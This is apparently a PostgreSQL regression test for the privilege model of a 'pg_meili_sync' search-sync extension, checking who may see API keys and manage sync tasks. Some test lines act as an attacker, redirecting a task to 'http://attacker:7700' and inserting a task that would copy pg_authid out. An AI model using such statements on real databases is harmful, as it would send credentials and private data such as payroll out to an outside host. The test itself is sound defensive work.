-- Who may do what. A key never shows to roles outside meili_sync_admin, in tables, views or
-- function results; only superusers and meili_sync_admin members manage tasks; pg_monitor members
-- read the monitoring views.
\set SHOW_CONTEXT never
SELECT meili_sync_start('products', 'secure', '{"url": "http://127.0.0.1:1", "api_key": "k3y-never-shown"}') AS task \gset

-- An ordinary role sees nothing and changes nothing.
SET ROLE regress_reader;
SELECT count(*) FROM meili_sync.tasks;
\echo SQLSTATE :LAST_ERROR_SQLSTATE
SELECT api_key FROM meili_sync.task_secrets;
\echo SQLSTATE :LAST_ERROR_SQLSTATE
SELECT count(*) FROM meili_sync_status;
\echo SQLSTATE :LAST_ERROR_SQLSTATE
SELECT count(*) FROM pg_stat_meili_sync;
\echo SQLSTATE :LAST_ERROR_SQLSTATE
SELECT count(*) FROM meili_sync_dead_letters;
\echo SQLSTATE :LAST_ERROR_SQLSTATE
SELECT meili_sync_start('products', 'mine', '{"url": "http://127.0.0.1:1"}');
\echo SQLSTATE :LAST_ERROR_SQLSTATE
SELECT * FROM meili_sync_preview('products');
\echo SQLSTATE :LAST_ERROR_SQLSTATE
SELECT meili_sync_stop(:task);
\echo SQLSTATE :LAST_ERROR_SQLSTATE
SELECT meili_sync_alter(:task, '{"url": "http://attacker:7700"}');
\echo SQLSTATE :LAST_ERROR_SQLSTATE
SELECT meili_sync_drop(:task);
\echo SQLSTATE :LAST_ERROR_SQLSTATE
SELECT pg_stat_meili_sync_reset();
\echo SQLSTATE :LAST_ERROR_SQLSTATE
SELECT * FROM meili_sync_verify(:task);
\echo SQLSTATE :LAST_ERROR_SQLSTATE
SELECT * FROM meili_sync_repair(:task);
\echo SQLSTATE :LAST_ERROR_SQLSTATE
RESET ROLE;

-- A pg_monitor member reads the monitoring views, never a key, and changes nothing.
SET ROLE regress_monitor;
SELECT task, source_table, index_uid, url FROM meili_sync_status;
SELECT count(*) AS rows_with_the_key FROM meili_sync_status s WHERE row_to_json(s)::text LIKE '%k3y-never-shown%';
SELECT task, index_uid FROM pg_stat_meili_sync;
SELECT count(*) AS tasks_rows_with_the_key FROM meili_sync.tasks t WHERE row_to_json(t)::text LIKE '%k3y-never-shown%';
SELECT api_key FROM meili_sync.task_secrets;
\echo SQLSTATE :LAST_ERROR_SQLSTATE
SELECT count(*) FROM meili_sync_dead_letters;
\echo SQLSTATE :LAST_ERROR_SQLSTATE
SELECT meili_sync_pause(:task);
\echo SQLSTATE :LAST_ERROR_SQLSTATE
RESET ROLE;

-- A meili_sync_admin member manages tasks on tables it may read, and may read keys; only the
-- task's owner (here the superuser who created it) rotates its key.
SET ROLE regress_admin;
SELECT meili_sync_alter(:task, '{"batch_size": 500}');
RESET ROLE;
GRANT SELECT ON products TO regress_admin;
SET ROLE regress_admin;
SELECT meili_sync_alter(:task, '{"batch_size": 500}');
RESET ROLE;
SELECT meili_sync_alter(:task, '{"api_key": "rotated-k3y"}');
SET ROLE regress_admin;
SELECT api_key FROM meili_sync.task_secrets WHERE task_id = :task;
SELECT options FROM meili_sync.tasks WHERE id = :task;
SELECT meili_sync_pause(:task), meili_sync_resume(:task);
RESET ROLE;

-- meili_sync_admin reads the catalog but cannot write it: a task comes only from a function that
-- checked its caller (a row naming pg_authid and the admin's own URL would copy it out).
SET ROLE regress_admin;
INSERT INTO meili_sync.tasks (source, index_uid, url, primary_key, owner)
VALUES ('pg_authid', 'stolen', 'http://attacker:7700', '{oid}', 'regress_admin');
\echo SQLSTATE :LAST_ERROR_SQLSTATE
UPDATE meili_sync.tasks SET source = 'pg_authid', url = 'http://attacker:7700' WHERE id = :task;
\echo SQLSTATE :LAST_ERROR_SQLSTATE
UPDATE meili_sync.task_secrets SET api_key = 'attacker-k3y';
\echo SQLSTATE :LAST_ERROR_SQLSTATE
DELETE FROM meili_sync.dead_letters;
\echo SQLSTATE :LAST_ERROR_SQLSTATE
RESET ROLE;
SELECT source, url FROM meili_sync.tasks WHERE id = :task;

-- A table the admin may not read: no task on it, and no function on another role's task on it.
CREATE TABLE payroll (id int PRIMARY KEY, salary numeric);
SET ROLE regress_admin;
SELECT meili_sync_start('payroll', 'payroll_copy', '{"url": "http://127.0.0.1:1"}');
\echo SQLSTATE :LAST_ERROR_SQLSTATE
RESET ROLE;
SELECT meili_sync_start('payroll', 'payroll', '{"url": "http://127.0.0.1:1", "api_key": "owner-k3y"}') AS payroll_task \gset
SELECT meili_sync_pause(:payroll_task);
SET ROLE regress_admin;
SELECT meili_sync_alter(:payroll_task, '{"url": "http://attacker:7700"}');
SELECT meili_sync_alter(:payroll_task, '{"batch_size": 100}');
SELECT meili_sync_snapshot(:payroll_task);
SELECT meili_sync_resync(:payroll_task);
SELECT * FROM meili_sync_verify(:payroll_task);
SELECT * FROM meili_sync_repair(:payroll_task);
SELECT meili_sync_retry_dead_letters(:payroll_task);
SELECT meili_sync_discard_dead_letters(:payroll_task);
-- Granted SELECT, the admin manages the task, but only its owner (or a superuser) redirects it.
RESET ROLE;
GRANT SELECT ON payroll TO regress_admin;
SET ROLE regress_admin;
SELECT meili_sync_alter(:payroll_task, '{"batch_size": 100}');
SELECT meili_sync_alter(:payroll_task, '{"url": "http://attacker:7700"}');
SELECT meili_sync_alter(:payroll_task, '{"api_key": "attacker-k3y"}');
RESET ROLE;
SELECT t.url, t.owner, s.api_key, t.options->>'batch_size' AS batch_size
  FROM meili_sync.tasks t JOIN meili_sync.task_secrets s ON s.task_id = t.id WHERE t.id = :payroll_task;

-- An error may quote row values: pg_monitor members see it only for tables they may read.
UPDATE meili_sync.tasks SET state = 'error', last_error = 'document 7 refused: salary 90000 is not a number'
 WHERE id = :payroll_task;
SET ROLE regress_monitor;
SELECT task, state, last_error FROM meili_sync_status WHERE task = :payroll_task;
RESET ROLE;
SELECT task, state, last_error FROM meili_sync_status WHERE task = :payroll_task;
SELECT meili_sync_drop(:payroll_task);

-- Only the search functions and meili_sync_wait are executable by PUBLIC (each checks SELECT on
-- the task's table inside), and every function runs with a fixed search_path.
SET ROLE regress_reader;
SELECT count(*) FROM meili_sync_worker_state();
\echo SQLSTATE :LAST_ERROR_SQLSTATE
SELECT count(*) FROM meili_sync_stats();
\echo SQLSTATE :LAST_ERROR_SQLSTATE
RESET ROLE;
SELECT p.oid::regprocedure AS function, p.proconfig,
       has_function_privilege('regress_reader', p.oid, 'EXECUTE') AS public_may_call,
       has_function_privilege('regress_monitor', p.oid, 'EXECUTE') AS monitor_may_call,
       has_function_privilege('regress_admin', p.oid, 'EXECUTE') AS admin_may_call
  FROM pg_proc p JOIN pg_depend d ON d.classid = 'pg_proc'::regclass AND d.objid = p.oid
 WHERE d.refclassid = 'pg_extension'::regclass
   AND d.refobjid = (SELECT oid FROM pg_extension WHERE extname = 'pg_meili_sync')
 ORDER BY 1::text;

-- The default key is set in the configuration files only, never in a session or per database,
-- and SHOW never prints it.
SET meili_sync.api_key = 'leaked-k3y';
ALTER DATABASE regress SET meili_sync.api_key = 'leaked-k3y';
ALTER ROLE regress_admin SET meili_sync.api_key = 'leaked-k3y';
SHOW meili_sync.api_key;

-- The key is not in the options the catalog keeps (it lives in meili_sync.task_secrets only).
SELECT count(*) AS catalog_rows_with_a_key FROM meili_sync.tasks t
 WHERE row_to_json(t)::text LIKE '%k3y%';
SELECT meili_sync_drop(:task);
SELECT * FROM leftovers;
